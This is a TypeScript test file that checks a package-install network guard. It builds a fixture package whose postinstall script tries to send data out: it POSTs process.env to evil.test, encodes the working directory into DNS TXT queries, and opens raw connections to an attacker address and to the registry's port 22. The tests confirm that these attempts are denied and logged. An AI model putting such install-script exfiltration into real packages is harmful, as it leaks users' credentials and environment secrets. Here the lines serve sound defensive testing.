import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { addresses } from '../fixtures/internet/addresses.ts'
import type { Internet, RunResult } from '../fixtures/internet/model.ts'
import { a } from '../fixtures/internet/records.ts'
import { arrivals } from '../fixtures/internet/silence.ts'
import { type History, history } from '../fixtures/product/history.ts'
import { patchedBuild } from '../fixtures/product/patched-build.ts'
import { product, USERS, type User } from '../fixtures/product/product.ts'
import { registryAt } from '../fixtures/product/registry-places.ts'
import { runOpen } from '../fixtures/product/run-open.ts'
import { startInternet } from '../fixtures/product/sandbox.ts'
import { type FixtureRegistry, startRegistry } from '../fixtures/registry.ts'
import { NO_POLICY } from './rig/controls.ts'

const REGISTRY = 'packages.test'
const ADDRESS = '203.0.113.94'
const TOKEN = 'npm_0123456789abcdef'
const { v4 } = addresses.evil

interface Attempt {
  /** A statement of the script. */
  readonly code: string
  /** Words of a row that tells it: in `dns`, or else in `flows`. */
  readonly told: { readonly in: 'dns' | 'flows'; readonly row: object }
  /** What arrives without the guard. */
  readonly arrives: RegExp
}

const ATTEMPTS: Readonly<Record<string, Attempt>> = {
  'a name, over HTTP': {
    code: "fetch('http://http.evil.test/', { method: 'POST', body: JSON.stringify(process.env) }).catch(() => 0)",
    told: { in: 'dns', row: { name: 'http.evil.test', reason: 'dns-undeclared' } },
    arrives: /asked for http\.evil\.test/,
  },
  'data in names': {
    code: "require('dns').resolveTxt(Buffer.from(process.cwd()).toString('hex').slice(0, 60) + '.txt.evil.test', () => 0)",
    told: {
      in: 'dns',
      row: {
        name: expect.stringMatching(/^[0-9a-f]+\.txt\.evil\.test$/),
        type: 'TXT',
        reason: 'dns-undeclared',
      },
    },
    arrives: /asked for [0-9a-f]+\.txt\.evil\.test TXT/,
  },
  'a bare address': {
    code: `require('net').connect(4433, '${v4}', function () { this.end('hello') }).on('error', () => 0)`,
    told: { in: 'flows', row: { address: v4, port: 4433, reason: 'raw-ip' } },
    arrives: new RegExp(`${v4.replaceAll('.', '\\.')} 4433: [1-9]`),
  },
  'the registry, on another port': {
    code: `require('net').connect(22, '${REGISTRY}', function () { this.end('hello') }).on('error', () => 0)`,
    told: { in: 'flows', row: { port: 22, reason: 'port' } },
    arrives: new RegExp(`${ADDRESS.replaceAll('.', '\\.')} 22: [1-9]`),
  },
}
const SCRIPT = `process.on('uncaughtException', () => 0)\n${Object.values(ATTEMPTS)
  .map(({ code }) => `${code}\n`)
  .join('')}setTimeout(() => process.exit(0), 2000)\n`

let internet: Internet
let registry: FixtureRegistry
let endPlace: () => unknown
beforeAll(async () => {
  internet = await startInternet({ zones: { [REGISTRY]: [a(ADDRESS)] } })
  registry = await startRegistry(
    [
      {
        manifest: {
          name: 'calling',
          version: '1.0.0',
          bin: 'cli.js',
          scripts: { postinstall: 'node call.js' },
        },
        files: { 'cli.js': '', 'call.js': SCRIPT },
      },
    ],
    { token: TOKEN },
  )
  endPlace = await registryAt(internet, registry, { address: ADDRESS, port: 80 })
})
afterAll(async () => {
  await endPlace()
  await registry.close()
  await internet.close()
})

interface Seen {
  readonly result: RunResult
  readonly lines: readonly string[]
  readonly found: History
}

async function install(user: User, dist?: string): Promise<Seen> {
  const mcp = product(internet, { user, ...(dist !== undefined && { dist }) })
  const npmrc = `registry=http://${REGISTRY}/\n//${REGISTRY}/:_authToken=${TOKEN}\n`
  writeFileSync(join(mcp.home, '.npmrc'), npmrc, { mode: 0o644 })
  const args = ['--allow-scripts', 'calling', '-y', 'calling']
  const at = [v4, addresses.evil.v6, addresses.evilDns.v4, addresses.evilDns.v6, ADDRESS]
  const { result, lines } = await arrivals(internet, () => runOpen(mcp, args, 55_000).ended, { at })
  return { result, lines, found: history(mcp.store, 'calling') }
}

/** The registry itself is reached. */
const elsewhere = (lines: readonly string[]) =>
  lines.filter((line) => !line.startsWith(`${ADDRESS} 80: `) && !/^203\.0\.113\.94: \d+ packets$/.test(line))

describe.each(USERS)('denied, as %s', (user) => {
  let seen: Seen
  beforeAll(async () => {
    seen = await install(user)
  }, 120_000)

  it('row 48: nothing arrives, the installation fails, and names its package', () => {
    expect(elsewhere(seen.lines)).toEqual([])
    expect(seen.result.code).toBe(2)
    expect(seen.result.stderr.toString()).toContain('the install script of calling@1.0.0 asked for ')
    for (const { phase } of seen.found.alerts) expect(phase).toBe('install')
  })

  it.each(Object.entries(ATTEMPTS))('row 48: an install script tries %s', (_, { told }) => {
    const rows: readonly object[] = seen.found[told.in]
    expect(rows).toContainEqual(expect.objectContaining({ phase: 'install', action: 'denied', ...told.row }))
  })
})

describe('gets through without the guard', () => {
  let seen: Seen
  beforeAll(async () => {
    seen = await install('root', patchedBuild(internet.folder(0), NO_POLICY))
  }, 120_000)

  it.each(Object.entries(ATTEMPTS))('row 48: an install script tries %s', (_, { arrives }) => {
    expect(seen.lines.join('\n'), seen.result.stderr.toString()).toMatch(arrives)
  })
})
